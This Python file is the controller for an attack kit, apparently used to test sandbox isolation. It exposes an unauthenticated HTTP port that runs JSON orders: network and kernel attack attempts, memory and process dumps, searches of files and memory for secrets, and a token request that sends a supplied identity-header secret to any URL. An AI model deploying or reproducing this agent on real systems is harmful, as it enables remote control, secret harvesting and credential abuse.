"""What runs in a sandbox of the attack kit: does what it is told over HTTP on port 8080, one order a connection.

An order is a line of JSON: {"do": NAME, ...}; the answer is JSON.
"""

import errno
import json
import os
import signal
import socket
import sys
import threading
import traceback
import urllib.error
import urllib.request

import harm
import kernel
import listeners
import machine
import net


def attack(order):
    rows = kernel.all_attempts(order["marker"], order["patience"]) if order["kernel"] else []
    return net.all_attempts(order["targets"]) + rows


def take(order):
    work = {"memory": harm.memory, "processes": harm.processes, "output": harm.output}
    return harm.in_a_child(work[order["what"]], order["amount"])


def find(order):
    word = order["word"]
    return {"files": harm.found_in_files(word), "memory": harm.found_in_memory(word)}


def ask(order):
    """Asks for a token there; an answer of whatever kind is what it says, else why there was none."""
    request = urllib.request.Request(order["url"], headers={"X-IDENTITY-HEADER": order["secret"]})
    try:
        with urllib.request.urlopen(request, timeout=3) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return "answered %d" % error.code
    except TimeoutError:
        return "dropped"
    except urllib.error.URLError as error:
        return "dropped" if isinstance(error.reason, TimeoutError) else errno.errorcode.get(error.reason.errno, "failed")
    except OSError as error:
        return errno.errorcode.get(error.errno, "failed")


ORDERS = {
    "attack": attack,
    "take": take,
    "leave": lambda order: harm.leave(order["word"]),
    "find": find,
    "ask": ask,
    "machine": machine.work,
    "ping": lambda order: "pong",
}


def serve(connection):
    with connection, connection.makefile("rb") as received:
        line = received.readline()
        while received.readline().strip():
            pass
        path = line.split()[1].decode()
        try:
            text = json.dumps(ORDERS[path.strip("/").split("?")[0]](json.loads(bytes.fromhex(path.split("?")[1]))))
        except Exception:
            text = json.dumps({"failed": traceback.format_exc()})
        body = text.encode()
        connection.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


def main():
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    if "victim" in sys.argv:
        listeners.start()
    listener = socket.create_server(("", 8080))
    while True:
        threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()


main()
